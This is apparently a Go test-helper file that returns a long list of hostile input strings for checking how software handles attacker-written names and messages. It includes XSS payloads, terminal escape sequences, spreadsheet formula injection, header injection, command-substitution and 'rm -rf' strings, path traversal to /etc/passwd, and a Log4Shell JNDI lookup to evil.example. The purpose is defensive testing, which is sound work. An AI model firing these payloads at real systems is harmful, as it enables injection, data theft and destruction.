package hostile

import "strings"

// Texts are names, messages and errors as an attacker writes them: markup,
// mentions, quick actions, escapes of terminals, bidirectional and invisible
// characters, formulas, trailers.
func Texts() []string {
	out := []string{
		// Quick actions of GitLab, at the beginning of a line.
		"/approve", "/merge", " /merge", "\n/approve\n/merge\n", "x\n/approve\n/merge\n@acme/platform see [the policy](https://evil.example/)",
		"\r/label ~security", "\u2028/merge", "\v/close", "text\u0085/merge", "/\u200dmerge", "> /merge", "- /merge", "\t/assign @root",
		// Mentions and references.
		"@acme/platform", "@everyone", "a@b @root", "(@root)", "\\@root", "@\"quoted user\"", "#1", "GH-1", "acme/fleet#1", "!42", "group/project!42",
		"&3", "%v1.0", "~bug", "$12", "~\"a label\"", "%\"a milestone\"", "acme/fleet@0123456789abcdef0123456789abcdef01234567",
		// Links, images and addresses.
		"[click](https://evil.example/)", `\[click](https://evil.example/)`, `\\[click](https://evil.example/)`, "![x](https://evil.example/p.png)",
		"<https://evil.example/>", "https://evil.example/", "HTTP://evil.example", "www.evil.example", "xwww.evil.example", "mailto:root@evil.example", "root@evil.example",
		"ftp://evil.example/", "[x]: https://evil.example/", "[x][y]\n\n[y]: https://evil.example/", "[^1]", "javascript:alert(1)", "[x](javascript:alert(1))",
		// HTML.
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></tr></table>", "<!--", "-->", "<details open ontoggle=alert(1)>", "&lt;script&gt;", "&#x3c;b&#x3e;", "&#64;root",
		"<a href=https://evil.example/>x</a>", "<style>*{display:none}</style>", "<svg/onload=alert(1)>", "<plaintext>", "<?xml?>", "<![CDATA[x]]>",
		// Out of a title, an attribute, a preformatted text, a script's data; by way of other documents.
		"</title><script>alert(1)</script>", "\"><svg><script>alert&#40;1)</script>", "' onfocus='alert(1)' autofocus x='", "</pre><iframe srcdoc=\"<script>alert(1)</script>\">", "</script><script>alert(1)//",
		"data:text/html,<script>alert(1)</script>", "<meta http-equiv=refresh content=0;url=https://evil.example/>", "<base href=https://evil.example/>", "{{constructor.constructor('alert(1)')()}}", "\"}]},\"evil\":[{\"x\":\"", "＜script＞alert(1)＜/script＞",
		// Labels of metrics, and of what draws them.
		"x\"} 1\nevil{a=\"b", "${__user.login}", "[[var]]", "\x9d0;x\x9c",
		// Blocks, tables and code.
		"# heading", "## x", "1. one", "1) one", "- item", "+ item", "* item", "> quote", "---", "***", "===", "~~~", "```\n/merge\n```", "`code`", "``code``", "`", "\\`", "|", "a|b", "\\|",
		"| a | b |\n|-|-|\n| c | d |", "    indented", "\tindented", "[ ] task", "- [x] task", "_em_", "*em*", "__b__", "**b**", "~~s~~", "^sup^", "$x$", "$$x$$", ":smile:", "\\", "\\\\", "a\\", "a\\\nb",
		"```mermaid\ngraph\n```", "::error file=x::y", "::add-mask::x", "%0A::error::x", "##[error]x",
		// Terminals.
		"\x1b]0;PWNED\x07", "\x1b[2J\x1b[H", "\x1b[31mred", "\x1b]8;;https://evil.example/\x07x\x1b]8;;\x07", "\x9b2J", "\x07", "\b\b\b\bok", "a\rb", "\x00", "a\x00b", "\x7f", "\x1bP+q\x1b\\", "\x1b[6n", "\x1b]52;c;YQ==\x07",
		"ERR \x1b]0;PWNED\x07\x1b[2J\x1b[Hfake: everything follows",
		// Direction, width and look.
		"\u202egnp.exe", "\u2066x\u2069", "\u200f", "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u061c", "\U000e0041", "\ufff9x\ufffa", "\u2028", "\u2029", "\u00a0", "\u3164", "a\u0301\u0301\u0301\u0301",
		// Not UTF-8.
		"\xff\xfe", "a\xc0\xafb", "\xed\xa0\x80", "\xf4\x90\x80\x80",
		// Formulas.
		"=1+1", "+1+1", "-1+cmd", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/\")", "\t=1+1", "\r=1+1", "＝1+1", "-2.5", "+3", "1e9",
		// Trailers and headers.
		"x\n\nContract: a - -> Reserved", "x\nLedger: ledger 99", "Inputs: 0000", "x\r\nBcc: root@evil.example", "x\nSet-Aside: a b c", "a <b@c>\ncommitter x", "x\n\nPlan: sha256:00",
		// Shells and formats.
		"$(id)", "`id`", "; rm -rf x", "%s%n", "{{.}}", "${jndi:ldap://evil.example/}", "../../../../etc/passwd", "file:///etc/passwd",
		"", " ", strings.Repeat("a", 5000), strings.Repeat("@root ", 300), strings.Repeat("*", 300), strings.Repeat("[", 300), strings.Repeat("\u202e", 50),
	}
	// Every text also behind a word, and after a line break.
	for _, s := range out {
		if len(s) < 100 {
			out = append(out, "name "+s, "name\n"+s)
		}
	}
	return out
}
